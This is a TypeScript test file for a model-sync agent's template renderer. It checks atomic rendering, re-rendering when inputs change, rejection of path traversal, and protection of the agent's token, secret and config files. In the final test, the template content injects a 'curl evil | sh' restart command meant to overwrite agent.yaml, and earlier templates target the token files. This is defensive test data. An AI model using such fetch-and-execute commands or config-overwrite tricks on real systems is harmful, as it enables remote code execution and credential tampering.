/**
 * Templates from the site file, rendered by the agent into config_dir: before
 * services restart, atomically, only when their inputs change, never outside
 * config_dir; a template that cannot render counts against its services.
 */
import { existsSync, mkdirSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { renderTemplates } from '../../src/agent/templates.ts';
import { templateContext } from '../../src/templates/index.ts';
import { isolatedGitEnv, tempDir } from '../helpers/env.ts';
import { TestRegistry } from '../reconcile/helpers/registry.ts';
import { bytes, current, startAgent } from './helpers/agent.ts';

const env = isolatedGitEnv();
const node = process.execPath;

const TEMPLATE = `# rendered for {{ site.name }} ({{ site.labels.region }})
face_model: {{ models.face.version }}
weights: {{ models.face.files[0].path }}
`;

describe('templates rendered by the agent', () => {
  it('renders before the restart, re-renders when the model changes, and a broken template changes nothing', async () => {
    const reg = TestRegistry.init(tempDir('agent-tpl-reg-'), env);
    reg.addVersion('face', '1', { 'model.bin': bytes(10_000, 1) });
    reg.addVersion('face', '2', { 'model.bin': bytes(10_000, 2) });
    reg.addVersion('face', '3', { 'model.bin': bytes(10_000, 3) });
    reg.addVersion('ssd', '1', { 'w.bin': bytes(10_000, 4) });
    reg.setCurrent('face', '1');
    reg.setCurrent('ssd', '1');
    reg.write('templates/face.yaml.j2', TEMPLATE);
    reg.site('alpha', { labels: { region: 'north' }, templates: [{ src: 'templates/face.yaml.j2', dest: 'sentinel/face.yaml', models: ['face'] }] });
    reg.commit('registry with a template');

    const dir = tempDir('agent-tpl-');
    const store = join(dir, 'store');
    const configDir = join(dir, 'rendered');
    const out = join(configDir, 'sentinel/face.yaml');
    const seen = join(dir, 'seen.log');
    // The restart records what the config said at that moment: it must already name the new version.
    // The config is found from seen.log's directory, not named in the argv: a file a service command names is never a template's dest.
    const services = [{ name: 'sentinel', models: ['face'], restart: [node, '-e', 'const fs=require("fs"),p=require("path");fs.appendFileSync(process.argv[1], fs.readFileSync(p.join(p.dirname(process.argv[1]),"rendered/sentinel/face.yaml"),"utf8").split("\\n")[1]+"\\n")', seen] }];
    const agent = await startAgent({ site: 'alpha', registry: reg.dir, store, config_dir: configDir, services });
    await agent.whenIdle();
    expect(readFileSync(out, 'utf8')).toBe(`# rendered for alpha (north)\nface_model: 1\nweights: ${store}/models/face/1/model.bin\n`);
    expect(readFileSync(seen, 'utf8')).toBe('face_model: 1\n');
    expect(agent.status().templates).toEqual([{ src: 'templates/face.yaml.j2', dest: 'sentinel/face.yaml', status: 'written' }]);

    // A pass that changes nothing leaves the file alone (same inode, same mtime), without reading the registry again.
    const before = statSync(out);
    expect((await agent.request('manual')).result.desiredFrom).toBe('snapshot');
    expect(statSync(out).mtimeMs).toBe(before.mtimeMs);
    expect(statSync(out).ino).toBe(before.ino);
    // An output deleted by hand comes back from the same snapshot.
    rmSync(out);
    expect((await agent.request('manual')).result.desiredFrom).toBe('snapshot');
    expect(readFileSync(out, 'utf8')).toBe(`# rendered for alpha (north)\nface_model: 1\nweights: ${store}/models/face/1/model.bin\n`);

    // A new face version: the config names it before the service restarts.
    reg.setCurrent('face', '2');
    reg.commit('face 2');
    await agent.request('manual');
    expect(readFileSync(out, 'utf8')).toContain('face_model: 2\n');
    expect(readFileSync(seen, 'utf8')).toBe('face_model: 1\nface_model: 2\n');

    // A template that cannot render is caught when the registry is validated: nothing switches,
    // the last good config stays, and the error names the template line.
    reg.write('templates/face.yaml.j2', `${TEMPLATE}extra: {{ models.face.nonexistent.field }}\n`);
    reg.setCurrent('face', '3');
    reg.commit('face 3 with a broken template');
    const r = await agent.request('manual');
    expect(r.result.status).toBe('failed');
    expect(r.result.errors[0]!.message).toMatch(/templates\/face\.yaml\.j2:\d+:\d+/);
    expect(current(store, 'face')).toBe('2');
    expect(agent.status().health).toBe('Failed');
    expect(readFileSync(out, 'utf8')).toContain('face_model: 2\n');
    await agent.stop();
  });

  it('never writes outside config_dir; renders only when inputs changed or the output is missing', async () => {
    const dir = tempDir('agent-tpl-unit-');
    const configDir = join(dir, 'rendered');
    const context = templateContext({ site: { name: 'x' }, models: [{ name: 'm', version: '1', dir: '/s/models/m/1', files: [] }] });
    const outcomes = await renderTemplates({
      specs: [
        { src: 'a.j2', dest: '../escape.txt', models: ['m'] },
        { src: 'a.j2', dest: 'ok/a.txt', models: ['m'] },
        { src: 'missing.j2', dest: 'b.txt', models: ['m'] },
      ],
      readSource: async (src) => (src === 'a.j2' ? 'version {{ models.m.version }}\n' : null),
      context,
      configDir,
    });
    expect(outcomes.map((o) => o.status)).toEqual(['error', 'written', 'error']);
    expect(outcomes[0]!.message).toMatch(/must not contain "\.\."/);
    expect(existsSync(join(dir, 'escape.txt'))).toBe(false);
    expect(readFileSync(join(configDir, 'ok/a.txt'), 'utf8')).toBe('version 1\n');
    expect(outcomes[2]!.message).toMatch(/missing\.j2 does not exist/);
    // Unchanged inputs: not rendered again (a hand edit stays until the inputs change) ...
    writeFileSync(join(configDir, 'ok/a.txt'), 'hand edit\n');
    const spec = [{ src: 'a.j2', dest: 'ok/a.txt', models: ['m'] }];
    const readSource = async (): Promise<string> => 'version {{ models.m.version }}\n';
    expect((await renderTemplates({ specs: spec, readSource, context, configDir }))[0]!.status).toBe('skipped');
    // ... but an output deleted by hand comes back, and so does one whose model switched.
    rmSync(join(configDir, 'ok/a.txt'));
    expect((await renderTemplates({ specs: spec, readSource, context, configDir }))[0]!.status).toBe('written');
    writeFileSync(join(configDir, 'ok/a.txt'), 'hand edit\n');
    expect((await renderTemplates({ specs: spec, readSource, context, configDir, changedModels: new Set(['m']) }))[0]!.status).toBe('written');
    expect(readFileSync(join(configDir, 'ok/a.txt'), 'utf8')).toBe('version 1\n');
  });

  it("the agent protects its token and secret files when config_dir is where they live", async () => {
    const reg = TestRegistry.init(tempDir('agent-tpl-own-reg-'), env);
    reg.addVersion('face', '1', { 'model.bin': bytes(1000, 1) });
    reg.setCurrent('face', '1');
    reg.write('templates/t.j2', 'stolen {{ models.face.version }}\n');
    reg.site('alpha', { templates: [{ src: 'templates/t.j2', dest: 'token' }, { src: 'templates/t.j2', dest: 'hook-secret' }, { src: 'templates/t.j2', dest: 'ok.txt' }] });
    reg.commit('templates aimed at the agent');
    const etc = tempDir('agent-tpl-own-');
    writeFileSync(join(etc, 'token'), 'the token\n');
    writeFileSync(join(etc, 'hook-secret'), 'the secret\n');
    const agent = await startAgent({ site: 'alpha', registry: reg.dir, store: join(etc, 'store'), config_dir: etc, token_file: join(etc, 'token'), webhook_secret_file: join(etc, 'hook-secret') });
    await agent.whenIdle();
    expect(readFileSync(join(etc, 'token'), 'utf8')).toBe('the token\n');
    expect(readFileSync(join(etc, 'hook-secret'), 'utf8')).toBe('the secret\n');
    expect(readFileSync(join(etc, 'ok.txt'), 'utf8')).toBe('stolen 1\n');
    expect(agent.status().templates.map((t) => [t.dest, t.status])).toEqual([['token', 'error'], ['hook-secret', 'error'], ['ok.txt', 'written']]);
    await agent.stop();
  });

  it("never overwrites the agent's own files, even when config_dir holds them or reaches them through a symlink", async () => {
    const etc = tempDir('agent-tpl-etc-');
    const store = join(tempDir('agent-tpl-store-'), 'store');
    mkdirSync(join(store, 'models/m/1'), { recursive: true });
    writeFileSync(join(etc, 'agent.yaml'), 'site: x\nservices: [{name: s, models: [m], restart: [systemctl, restart, s]}]\n');
    writeFileSync(join(etc, 'token'), 'secret\n');
    symlinkSync(store, join(etc, 'store-link'));
    const context = templateContext({ site: { name: 'x' }, models: [{ name: 'm', version: '1', dir: '/s/models/m/1', files: [] }] });
    const dests = ['agent.yaml', 'token', 'store-link/models/m/1/w.bin', '.modelsync-rendered.json', 'fine.yaml'];
    const outcomes = await renderTemplates({
      specs: dests.map((dest) => ({ src: 'evil.j2', dest, models: ['m'] })),
      readSource: async () => 'services: [{name: s, models: [m], restart: [sh, -c, "curl evil | sh"]}]\n',
      context,
      configDir: etc,
      protectedPaths: [join(etc, 'agent.yaml'), join(etc, 'token'), store],
    });
    expect(outcomes.map((o) => o.status)).toEqual(['error', 'error', 'error', 'error', 'written']);
    expect(outcomes[0]!.message).toMatch(/would overwrite .*agent\.yaml, which belongs to the agent/);
    expect(readFileSync(join(etc, 'agent.yaml'), 'utf8')).toMatch(/systemctl/);
    expect(readFileSync(join(etc, 'token'), 'utf8')).toBe('secret\n');
    expect(existsSync(join(store, 'models/m/1/w.bin'))).toBe(false);
  });
});
